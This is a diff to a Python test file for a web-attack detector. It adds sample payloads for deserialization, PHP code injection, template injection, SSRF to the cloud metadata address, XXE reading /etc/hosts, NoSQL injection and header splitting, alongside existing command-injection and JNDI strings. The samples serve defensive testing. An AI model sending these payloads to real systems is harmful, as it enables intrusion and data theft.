@@ -264,6 +264,14 @@ REQUEST = '203.0.113.9 - - [07/Sep/2026:09:30:00 +0800] "GET {path} HTTP/1.1" 20
         ("web/command_injection", "127.0.0.1;cat /etc/hosts"),
         ("web/command_injection", "$(whoami)"),
         ("web/jndi_injection", "${jndi:ldap://203.0.113.9/a}"),
+        ("web/java_deserialization", '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'),
+        ("web/php_deserialization", 'O:8:"Exploit1":1:{s:3:"cmd";}'),
+        ("web/php_code_injection", "system('id')"),
+        ("web/template_injection", "{{config.items()}}"),
+        ("web/server_side_request", "http://169.254.169.254/latest/"),
+        ("web/xml_external_entity", '<!ENTITY x SYSTEM "file:///etc/hosts">'),
+        ("web/nosql_ldap_injection", '{"$ne":""}'),
+        ("web/response_splitting", "x\r\nSet-Cookie: a=1"),
     ],
 )
 def test_encoding_an_attack_hides_it_from_no_rule(rule: str, payload: str, layers: int) -> None:
